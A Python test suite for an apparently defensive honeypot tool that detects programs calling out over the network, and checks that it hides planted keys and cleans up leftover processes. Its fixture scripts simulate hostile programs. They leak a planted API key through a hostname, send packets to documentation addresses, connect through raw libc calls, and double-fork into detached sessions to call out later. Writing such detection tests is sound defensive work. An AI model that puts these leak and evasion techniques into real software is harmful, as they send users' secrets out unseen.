"""Any tool in the honeypot: who calls is caught, who does not is not accused, and nothing is left running."""

from __future__ import annotations

import json
import os
import pty
import select
import shutil
import subprocess
import sys
import tempfile
import termios
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from assistant import silence
from assistant.audit import command
from assistant.selftest import honeypot

WHOLE = pytest.mark.skipif("WHOLE_SELFTEST" not in os.environ, reason="NOT CHECKED: set WHOLE_SELFTEST=1, as CI does")
KEY = "sk-planted0secret0value42"
NAP = f"987.{os.getpid()}"  # seconds that nobody else sleeps
SPEAKER = f'''
"""Calls in every way at once, each at a place of its own; its own work goes well."""
import ctypes, os, socket, ssl, subprocess, sys, time
print("my key is", os.environ["PLANTED_API_KEY"])
open(os.path.expanduser("~/.device-{KEY}"), "w").write("1234")
try: socket.getaddrinfo("only-asked.example", 443)
except OSError: pass
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 50, ("203.0.113.5", 5005))
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::5", 5006))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.168.7.7", 5007))
libc = ctypes.CDLL(None)
handle = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
libc.connect(handle, b"\\2\\0" + (5008).to_bytes(2, "big") + bytes([203, 0, 113, 8]) + bytes(8), 16)
subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('{KEY}.example', 443))"])
ip = socket.getaddrinfo("telemetry.example", 443, socket.AF_INET)[0][4][0]
plain = socket.create_connection((ip, 443))
try: ssl.create_default_context().wrap_socket(plain, server_hostname="telemetry.example")
except OSError: pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for handle in (0, 1, 2): os.close(handle)
        time.sleep(0.3)
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"late", ("203.0.113.9", 5009))
        time.sleep(0.2)
        os.execvp("sleep", ["sleep", "{NAP}"])
    os._exit(0)
os.wait()
'''
HERMIT = """
import os, socket, sys, threading
own = socket.create_server(("127.0.0.1", 5010))
threading.Thread(target=own.accept, daemon=True).start()
socket.create_connection(("127.0.0.1", 5010)).sendall(b"hello")
try: socket.create_connection(("127.0.0.1", 11434))
except ConnectionRefusedError: pass
a, b = socket.socketpair(); a.send(b"x")
open(os.path.expanduser("~/notes.txt"), "w").write("mine")
assert not {"CI", "DO_NOT_TRACK", "ORT_DISABLE_TELEMETRY"} & os.environ.keys(), "it has to be as talkative as ever"
sys.exit(3)
"""
SCREEN = """
import sys, os
sys.stdout.write(f"terminal {all(os.isatty(h) for h in (0, 1, 2))} {os.get_terminal_size().columns} ready\\n")
sys.stdout.write("\\x1b[?1049h\\x1b[?25l\\x1b[?1000;1006h"); sys.stdout.flush()
print("said", input().upper())
os.kill(os.getpid(), 9)
"""
TYPIST = """
import sys
import tempfile
print(sys.stdin.isatty(), flush=True)
sys.exit([input(), input()] != ["first", "second"])
"""
DELAYED = """
import subprocess, sys, time
subprocess.run([sys.executable, "-c",
    "import time, socket; time.sleep(8); socket.socket(2, 2).sendto(b'x', ('203.0.113.5', 5005))"])
"""


@dataclass
class Done:
    code: int
    out: str
    err: str
    home: Path
    took_s: float

    @property
    def report(self) -> dict:
        return json.loads(self.out)


def run(home: Path, *words: str, **more: str) -> Done:
    """`assistant audit run` as a person's script would, without a terminal."""
    home.mkdir(parents=True, exist_ok=True)
    env = os.environ | {"HOME": str(home), "ASSISTANT_HOME": str(home / "assistant"), "CI": "true", **more}
    env = {name: value for name, value in env.items() if name not in silence.SWITCHES and "XDG" not in name}
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-P", "-m", "assistant", "audit", "run", *words],
        env=env,
        cwd=home,
        text=True,
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=120,
        check=False,
    )
    if done.returncode == honeypot.EXIT_UNAVAILABLE:
        pytest.skip(f"AUDIT RUN NOT CHECKED: {done.stdout}{done.stderr}")
    return Done(done.returncode, done.stdout, done.stderr, home, time.monotonic() - started)


def in_terminal(home: Path, code: str) -> tuple[int, str, bool]:
    """With a person at a terminal, who types a line and says afterwards that it worked."""
    home.mkdir(parents=True)
    ours, theirs = pty.openpty()
    before = termios.tcgetattr(theirs)
    termios.tcsetwinsize(theirs, (30, 97))
    env = os.environ | {"HOME": str(home), "ASSISTANT_HOME": str(home / "assistant")}
    process = subprocess.Popen(
        [sys.executable, "-P", "-m", "assistant", "audit", "run", "--", sys.executable, "-c", code],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        env=env,
        cwd=home,
    )
    said, typed, until_s = b"", [(b"ready", b"hello\r"), (b"do its work", b"y\n")], time.monotonic() + 60
    while time.monotonic() < until_s and (process.poll() is None or select.select([ours], [], [], 0.1)[0]):
        if select.select([ours], [], [], 0.1)[0]:
            said += os.read(ours, 65536)
        if typed and typed[0][0] in said:
            os.write(ours, typed.pop(0)[1])
    restored = termios.tcgetattr(theirs) == before
    os.close(theirs)
    os.close(ours)
    return process.wait(), said.decode("utf-8", "replace"), restored


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """All at once: they mostly wait. Not below the folder for temporary files of the tool itself."""
    home = tmp_path_factory.mktemp("homes")
    python = ["--", sys.executable, "-c"]
    with ThreadPoolExecutor(4) as pool:
        speaker = pool.submit(
            run, home / "a", "--json", "--for", "3", *python, SPEAKER, "--token", KEY, PLANTED_API_KEY=KEY
        )
        hermit = pool.submit(run, home / "b", "--json", *python, HERMIT)
        screen = pool.submit(in_terminal, home / "c", SCREEN)
        return {"speaker": speaker.result(), "hermit": hermit.result(), "screen": screen.result(), "home": home}


def test_who_calls_is_caught_however_it_calls(done):
    report = done["speaker"].report
    assert done["speaker"].code == 1
    assert report["silence"] == "called"
    hosts = set(report["hosts"])
    assert {
        "only-asked.example",
        "203.0.113.5:5005",
        "[2001:db8::5]:5006",
        "192.168.7.7:5007",
        "203.0.113.8:5008",
        "telemetry.example",
        "203.0.113.9:5009",
    } <= hosts
    assert any(call["sni"] == "telemetry.example" and call["bytes"] > 200 for call in report["calls"])
    assert next(call for call in report["calls"] if call["port"] == 5007)["reach"] == "lan"
    assert next(call for call in report["calls"] if call["port"] == 5005)["bytes"] == 50
    assert all(report["canaries"].values())
    assert len(report["canaries"]) >= 6
    assert report["schema"] == "assistant-audit-run/1"


def test_its_work_is_told_apart_from_its_calls(done):
    report = done["speaker"].report
    assert (report["started"], report["exit_code"], report["worked"]) == (True, 0, "yes")
    assert report["output_bytes"] > 0
    assert report["short"], "a few seconds prove little, and the report has to say so"


def test_nothing_is_left_running(done):
    assert any("sleep" in name for name in done["speaker"].report["left_behind"])
    commands = [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if p.exists()]
    assert not [c for c in commands if NAP.encode() in c]


def test_no_key_is_told(done):
    """In its environment, its arguments, its output, the name of a host and of a file."""
    written = "".join(f.read_text() for f in (done["speaker"].home / "assistant").rglob("*") if f.is_file())
    assert "assistant-audit-run/1" in written, "the evidence was kept"
    for text in (done["speaker"].out, done["speaker"].err, written):
        assert KEY not in text
        assert "planted0secret" not in text
    assert "***.example" in done["speaker"].report["hosts"], "that somebody was called is told all the same"


def test_loopback_is_told_apart_and_no_accusation(done):
    report = done["hermit"].report
    assert done["hermit"].code == 0
    assert report["silence"] == "silent"
    assert report["hosts"] == []
    assert report["needs_ports"] == [11434]
    assert report["own_ports"] == [5010]
    assert (report["exit_code"], report["worked"]) == (3, "no")


def test_what_it_writes_is_told_and_thrown_away(done):
    assert done["hermit"].report["files"] == ["~/notes.txt"]
    assert not (done["hermit"].home / "notes.txt").exists()


def test_a_person_s_terminal_is_passed_on_and_given_back(done):
    code, said, restored = done["screen"]
    if code == honeypot.EXIT_UNAVAILABLE:
        pytest.skip("TERMINAL NOT CHECKED: no honeypot here")
    assert "terminal True 97" in said
    assert "said HELLO" in said
    assert restored
    assert "\x1b[?1049l" in said, "it was ended in the middle of a full screen"
    assert "\x1b[?25h" in said
    assert "\x1b[?1006l" in said
    assert code == 0
    (kept,) = (done["home"] / "c" / "assistant" / "state" / "audit").glob("*.json")
    report = json.loads(kept.read_bytes())
    assert (report["worked"], report["terminal"], report["silence"]) == ("yes", True, "silent")
    assert "person" in report["worked_by"]


def test_no_such_program():
    done = CliRunner().invoke(command.audit, ["run", "--", f"no-such-{KEY}"])
    assert done.exception.exit_code == 2
    assert "no such program" in str(done.exception)
    assert KEY not in str(done.exception)


def test_where_namespaces_are_forbidden_nothing_is_proven():
    """Nor is the tool run at all: it would be in the open."""
    code = """
import io, sys
from assistant.audit import cage
from assistant.selftest import namespace
def refuse(hidden=()):
    raise PermissionError(1, "Operation not permitted")
namespace.enter = refuse
cage.start = lambda order: sys.exit("it was run")
order = b'{"command":["true"],"handle":1,"terminal":false,"seconds":1,\
"linger_s":1,"guarded":[],"aside":"","secrets":[]}'
sys.stdin = io.TextIOWrapper(io.BytesIO(order))
sys.exit(cage.main())
"""
    done = subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == honeypot.EXIT_UNAVAILABLE
    assert "Operation not permitted" in done.stderr


@WHOLE
def test_a_late_call_of_a_child_is_caught(tmp_path):
    done = run(tmp_path, "--json", "--", sys.executable, "-c", DELAYED)
    assert done.code == 1
    assert done.report["hosts"] == ["203.0.113.5:5005"]
    assert done.report["calls"][0]["at_s"] > 5


@WHOLE
def test_nothing_survives_our_own_end(tmp_path):
    """Not even when we are killed, and the tool has moved a child into a session of its own."""
    nap = f"986.{os.getpid()}"
    words = ["audit", "run", "--", "sh", "-c", f"(setsid sleep {nap} &); exec sleep {nap}"]
    ours = subprocess.Popen([sys.executable, "-P", "-m", "assistant", *words], cwd=tmp_path, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip

    def asleep() -> int:
        commands = [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if p.exists()]
        return sum(c.startswith(b"sleep\0" + nap.encode()) for c in commands)

    def wait(number: int) -> bool:
        until_s = time.monotonic() + 40
        while asleep() != number and ours.poll() != honeypot.EXIT_UNAVAILABLE and time.monotonic() < until_s:
            time.sleep(0.1)
        return asleep() == number

    started = wait(2)
    ours.kill()
    if ours.wait() == honeypot.EXIT_UNAVAILABLE:
        pytest.skip("NOT CHECKED: no honeypot here")
    assert started
    assert wait(0)


@WHOLE
def test_a_script_types_into_its_terminal(tmp_path):
    script = tmp_path / "lines"
    script.write_text("first\nsecond\n")
    done = run(tmp_path / "home", "--json", "--show", "--input", str(script), "--", sys.executable, "-c", TYPIST)
    assert done.code == 0, done.out
    assert done.report["exit_code"] == 0, done.err
    assert "True" in done.err


@WHOLE
def test_files_may_be_allowed(tmp_path):
    done = run(tmp_path, "--json", "--allow-files", "--", "sh", "-c", "echo kept > ~/kept")
    assert done.code == 0
    assert (tmp_path / "kept").read_text() == "kept\n"
    assert done.report["files_kept"]


@WHOLE
def test_onnxruntime_that_calls_is_caught(tmp_path):
    """The real library, some 10 s after its start; in a process of whoever uses it."""
    folder = os.environ.get("ONNXRUNTIME_THAT_CALLS")
    if not folder:
        pytest.skip("NOT CHECKED: onnxruntime 1.31.1 could not be had")
    done = run(
        tmp_path,
        "--json",
        "--as",
        "onnxruntime",
        "--for",
        "40",
        "--",
        sys.executable,
        "-c",
        "import onnxruntime, time; time.sleep(60)",
        PYTHONPATH=folder,
    )
    print(done.out)
    assert done.code == 1
    assert any("microsoft" in host for host in done.report["hosts"])
    assert done.report["files"], "it keeps a device id"


@WHOLE
@pytest.mark.skipif(os.geteuid() != 0, reason="whoever is no root has run all of the above without privileges")
def test_without_privileges(request):
    """As nobody, who may not bind a low port, mount, or look into the processes of others."""
    python, nobody = request.getfixturevalue("installed"), "65534"
    home = Path(tempfile.mkdtemp(prefix="ra-", dir="/tmp"))
    os.chown(home, int(nobody), int(nobody))
    drop = ["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups", "env", "-i", f"HOME={home}"]
    code = f"import socket; socket.socket(2, 2).sendto(b'x', ('203.0.113.5', 5005)); open('{home}/f', 'w')"
    words = ["-P", "-m", "assistant", "audit", "run", "--json", "--", python, "-c", code]
    done = subprocess.run([*drop, f"PATH={os.environ['PATH']}", python, *words], cwd=home, capture_output=True,
                          text=True, check=False, timeout=100)  # fmt: skip
    left = [file.name for file in home.iterdir()]
    shutil.rmtree(home)
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert report["hosts"] == ["203.0.113.5:5005"]
    assert report["exit_code"] == 0
    assert report["files"] == ["~/f"]
    assert "f" not in left
